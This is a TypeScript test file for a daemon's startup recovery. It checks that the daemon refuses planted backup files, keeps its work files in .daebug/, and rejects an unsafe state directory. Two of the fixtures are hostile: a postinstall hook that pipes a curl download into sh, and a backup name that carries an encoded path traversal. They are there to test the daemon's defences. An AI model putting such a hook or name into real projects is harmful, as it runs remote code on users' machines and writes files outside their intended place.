// A running daemon keeps its temp files and backups in .daebug/, and at start restores nothing but
// daebug.md and the logs in daebug/, whatever files named like its backups lie around.
import assert from 'node:assert/strict';
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync, watch, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { startDaemon } from '../../src/daemon/daemon.js';
import { fold, parseJournal } from '../../src/daemon/journal.js';
import { contentHash } from '../../src/store/temp-file.js';
import { FAST, FakeRealm, json, startTestDaemon } from '../helpers/daemon.js';
import { quietPeriod, tempRoot } from '../helpers/temp.js';

const WORK_FILE = /\.daebug-(tmp|prev)$/;

/**
 * The versions part of a backup name for an old file `text`, made so that recovery that trusted the
 * name would find `late` appended to it and put it right after the part of `text` that ends with `after`.
 */
function plantedVersions(text: string, after: string): string {
  const old = Buffer.from(text);
  const at = Buffer.from(text.slice(0, text.indexOf(after) + after.length));
  return `${old.length}.${contentHash(old)}.${at.length}.${contentHash(at)}`;
}

const PACKAGE = '{\n  "name": "app",\n  "scripts": {\n    "test": "node --test"\n  }\n}\n';
const POSTINSTALL = '    "postinstall": "curl -s https://example.invalid/x | sh",\n';

test('a backup planted next to package.json leaves it byte-identical at start, stays where it is and is named in a warning', async () => {
  const name = `.package.json.${plantedVersions(PACKAGE, '"scripts": {\n')}.daebug-prev`;
  const temp = '.package.json.4242.1.daebug-tmp';
  const t = await startTestDaemon({}, (root) => {
    writeFileSync(join(root, 'package.json'), PACKAGE);
    writeFileSync(join(root, name), PACKAGE + POSTINSTALL);
    writeFileSync(join(root, temp), PACKAGE + POSTINSTALL);
  });
  assert.equal(readFileSync(join(t.root, 'package.json'), 'utf8'), PACKAGE);
  for (const planted of [name, temp]) {
    assert.ok(existsSync(join(t.root, planted)), `${planted} is left where it is`);
    assert.ok(t.entries.some((entry) => entry.level === 'warn' && entry.message.includes(join(t.root, planted))), `a warning names ${planted}`);
  }
});

test('a backup planted in .daebug/backups whose name leads out of daebug/ is refused at start with a warning', async () => {
  const text = '# notes\n';
  const name = `log.%2E%2E%2Fnotes.md.${plantedVersions(text, text)}.daebug-prev`;
  const t = await startTestDaemon({}, (root) => {
    writeFileSync(join(root, 'notes.md'), text);
    mkdirSync(join(root, '.daebug', 'backups'), { recursive: true });
    writeFileSync(join(root, '.daebug', 'backups', name), text + 'planted\n');
  });
  assert.equal(readFileSync(join(t.root, 'notes.md'), 'utf8'), text);
  assert.ok(existsSync(join(t.root, '.daebug', 'backups', name)), 'the planted file stays');
  assert.ok(t.entries.some((entry) => entry.level === 'warn' && entry.message.includes(name)), 'a warning names it');
});

test('temp files and backups appear only in .daebug/, never next to the logs, and are gone once the daemon is quiet', async () => {
  const t = await startTestDaemon();
  new FakeRealm(t.daemon, 'tab', (code) => json(code));
  writeFileSync(t.logPath('tab'), '# tab\n');
  const seen = new Set<string>();
  const watchers = [t.root, join(t.root, 'daebug')].map((dir) => watch(dir, (_event, name) => name && seen.add(String(name))));
  try {
    for (let index = 0; index < 20; index++) {
      t.append('tab', `\`\`\`js\nrequest(${index})\n\`\`\`\n`);
      await quietPeriod(15);
    }
    await t.waitForLog('tab', (text) => text.includes('"request(19)"') && !text.includes('queued'), 'every reply');
    await quietPeriod(3000);
  } finally {
    for (const watcher of watchers) watcher.close();
  }
  assert.deepEqual([...seen].filter((name) => WORK_FILE.test(name)), [], 'no temp file or backup ever appeared in the root or in daebug/');
  assert.deepEqual(readdirSync(join(t.root, 'daebug')), ['tab.md']);
  assert.deepEqual(readdirSync(t.root).sort(), ['.daebug', 'daebug', 'daebug.md']);
  assert.deepEqual(readdirSync(join(t.root, '.daebug')).sort(), ['.gitignore', 'backups', 'journal', 'tmp']);
  assert.deepEqual([...fold(parseJournal(readFileSync(join(t.root, '.daebug', 'journal'), 'utf8')))], [], 'every request in the journal settled');
  assert.deepEqual(readdirSync(join(t.root, '.daebug', 'tmp')), [], 'no temp file left');
  assert.deepEqual(readdirSync(join(t.root, '.daebug', 'backups')), [], 'every backup removed after its grace period');
});

test('a .daebug that is a symlink stops the start, and nothing is written through it', async () => {
  const root = tempRoot();
  const elsewhere = tempRoot();
  mkdirSync(join(root, 'daebug'));
  writeFileSync(join(root, 'daebug', 'tab.md'), '# tab\n');
  symlinkSync(elsewhere, join(root, '.daebug'));
  await assert.rejects(startDaemon({ root, timing: FAST }), { code: 'ERR_STATE_DIR' });
  assert.deepEqual(readdirSync(elsewhere), []);
  assert.equal(readFileSync(join(root, 'daebug', 'tab.md'), 'utf8'), '# tab\n');
});

test('a .daebug of another user, or one other users may write, stops the start with the reason (issue 23)', async () => {
  for (const [why, prepare, said] of [
    ['another user', (dir: string) => chownSync(dir, 65534, 65534), /belongs to user 65534/],
    ['mode 777', (dir: string) => chmodSync(dir, 0o777), /may be written by other users \(mode 777\)/],
  ] as const) {
    const root = tempRoot();
    mkdirSync(join(root, 'daebug'));
    writeFileSync(join(root, 'daebug', 'tab.md'), '# tab\n');
    mkdirSync(join(root, '.daebug'));
    prepare(join(root, '.daebug'));
    // A daemon that starts all the same is stopped, so the failure is reported rather than left running.
    const refusal = await startDaemon({ root, timing: FAST }).then(
      (daemon) => daemon.stop('test finished').then(() => null),
      (error: Error & { code?: string }) => error,
    );
    assert.ok(refusal?.code === 'ERR_STATE_DIR' && said.test(refusal.message), `${why}: ${refusal?.message ?? 'the daemon started'}`);
    assert.deepEqual(readdirSync(join(root, '.daebug')), [], `${why}: nothing was written into it`);
  }
});
